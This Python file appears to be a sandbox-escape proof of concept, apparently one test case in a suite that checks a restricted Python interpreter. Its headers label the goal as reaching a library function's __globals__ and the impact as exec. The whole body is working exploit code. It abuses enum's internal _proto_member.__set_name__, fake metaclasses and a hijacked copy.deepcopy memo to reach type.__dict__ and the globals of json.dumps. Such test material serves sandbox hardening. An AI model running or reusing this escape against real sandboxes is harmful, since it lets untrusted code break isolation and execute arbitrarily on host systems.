# technique: _proto_member.__set_name__() looks for a descriptor in the bases that the guest's object names, and keeps its __get__; deepcopy() shows it to a memo
# source: reading Python's library
# goal: __globals__ of a library's function
# impact: exec
import copy
import enum
import json
import types

protos = []
given = []


class First:
    """Is told its name before the members are made of what stands for them."""

    def __set_name__(self, owner, name):
        protos.extend([v for v in vars(owner).values() if type(v).__name__ == '_proto_member'])


class Mix(type):
    def __delattr__(cls, name):
        return None


class Meta(Mix, enum.EnumType):
    pass


class Colour(enum.Enum, metaclass=Meta):
    first = enum.nonmember(First())
    RED = 1


if not protos:
    escaped('the attack does not reach what it attacks')


class Wrong(AttributeError, enum.Enum, metaclass=Meta):
    obj = 'x'


given.append(vars(Wrong)['obj'])


class Class:
    """Stands for a class of enumerations."""

    def __delattr__(self, name):
        return None

    def __setattr__(self, name, value):
        given.append(value)


class Member:
    def __init__(self, *_):
        self.value = 5

    def __deepcopy__(self, memo):
        return self


class Binds:
    def __get__(self, o, cls=None):
        return 5


class Memo:
    def __init__(self, n):
        self.left, self.kept = n, []

    def get(self, key, default=None):
        self.left -= 1
        return Binds() if self.left == 0 else default

    def __getitem__(self, key):
        return self.kept

    def __setitem__(self, key, value):
        self.kept.append(value)


class Base:
    __slots__ = ('names',)

    def __getattr__(self, name):
        if name == '__dict__':
            return self.names
        raise AttributeError(name)


def reader(base, name):
    made = Class()
    vars(made).update(
        __mro__=(object, base), _member_map_={}, _member_type_=object, _use_args_=False, _member_names_=[], _unhashable_values_=[],
        _value2member_map_={}, __name__='x', __bases__=(), _new_member_=lambda cls: Member())
    type(protos[0]).__set_name__(Member(), made, name)
    return bound(given[-1])


def bound(redirect):
    for n in range(1, 80):
        memo = Memo(n)
        try:
            copy.deepcopy(redirect, memo)
        except (AttributeError, TypeError):
            pass
        for found in memo.kept:
            for value in found.values() if type(found) is dict else [found]:
                if type(value).__name__ == 'method-wrapper':
                    return value


colours = [v for v in protos if v.value == 1]
for name in ('__class__', '__reduce_ex__', 'mro'):
    try:
        colours[0].__set_name__(Colour, name)
    except (AttributeError, TypeError):
        continue
    if Colour.RED.__class__ is not Colour or name in vars(Colour):
        escaped(name)
for redirect in [*given]:
    if bound(redirect) is not None:
        escaped(redirect)
    for name in ('_get', '_set', '_del'):
        if getattr(redirect, name, None) is not None:
            escaped(redirect)
read_namespace = reader(type, '__dict__')
base = Base()
base.names = {'x': read_namespace(types.FunctionType)['__globals__']}
escaped(reader(base, 'x')(json.dumps))
